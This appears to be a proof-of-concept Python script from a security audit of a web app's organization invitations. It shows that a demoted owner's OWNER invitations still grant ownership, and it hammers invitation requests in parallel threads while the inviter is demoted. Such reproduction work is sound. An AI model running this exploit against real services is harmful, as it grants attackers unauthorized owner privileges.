"""Finding 1 variation (invitations): X (OWNER) invites W as OWNER, then Y demotes X to ADMIN (who may
not make an OWNER); W signs up from the link. And the race: X hammers 'invite an OWNER' from T threads
on A while Y demotes X to ADMIN on B; every invitation X got is then accepted. Usage: BASE BASE2 DB DATA"""
import re, sys, threading, time, uuid
import race_owners as R
from race_demote import sql
from lib12 import *
T = int(sys.argv[1]) if len(sys.argv) > 1 else 6
def invite(s, org, who, role, tok):
    r = post(s, f"/dashboard/orgs/{org}/invitations", {"csrf_token": tok, "email": who, "role": role})
    m = re.search(r'id="invitation-link" type="text" readonly value="([^"]+)"', r.text)
    return r.status_code, (html.unescape(m.group(1)) if m else None)
org, sx, sx2, sy, xid, yid = R.setup(); K = f"/dashboard/orgs/{org}"
t = uuid.uuid4().hex[:5]; w = f"w{t}@race.test"
st, link = invite(sx, org, w, "OWNER", token_of(sx)); print("X (OWNER) invites W as OWNER:", st)
print("Y demotes X to ADMIN:", post(sy, f"{K}/members/{xid}/role", {"csrf_token": token_of(sy), "role": "ADMIN"}).status_code)
try:
    R.signup(w, path=urllib.parse.urlparse(link).path); print("W signs up from the link: 303")
except AssertionError as e:
    print("W signs up from the link: refused", re.sub(r"\s+", " ", str(e))[:0])
print("W's role:", sql(f"select m.role from memberships m join users u on u.id=m.user_id where m.organization_id='{org}' and u.email='{w}'"))
# the race (invitation quota per inviter: 20 a window; the setup used 2 for X here, so 18 left)
org, sx, sx2, sy, xid, yid = R.setup(); K = f"/dashboard/orgs/{org}"
tx = token_of(sx); stop = threading.Event(); got = []; n = [0]; lock = threading.Lock()
def hammer():
    while not stop.is_set():
        with lock: n[0] += 1; i = n[0]
        if i > 17: break
        got.append(invite(sx, org, f"h{t}{i}@race.test", "OWNER", tx) + (f"h{t}{i}@race.test", time.time()))
        time.sleep(0.03)
th = [threading.Thread(target=hammer) for _ in range(T)]; [x.start() for x in th]
time.sleep(0.15); ry = post(sy, f"{K}/members/{xid}/role", {"csrf_token": token_of(sy), "role": "ADMIN"}); td = time.time()
stop.set(); [x.join() for x in th]
print("race: Y demotes X to ADMIN:", ry.status_code, "| X's invitation answers:", {c: [g[0] for g in got].count(c) for c in set(g[0] for g in got)},
      "| of them answered after the demotion:", sum(1 for g in got if g[3] > td and g[1]))
owners = 0
for st, link, who, tt in got:
    if link:
        try: R.signup(who, path=urllib.parse.urlparse(link).path)
        except AssertionError: pass
roles = sql(f"select m.role, count(*) from memberships m join users u on u.id=m.user_id where m.organization_id='{org}' and u.email like 'h{t}%' group by m.role")
print("roles of the invited after acceptance:", roles)
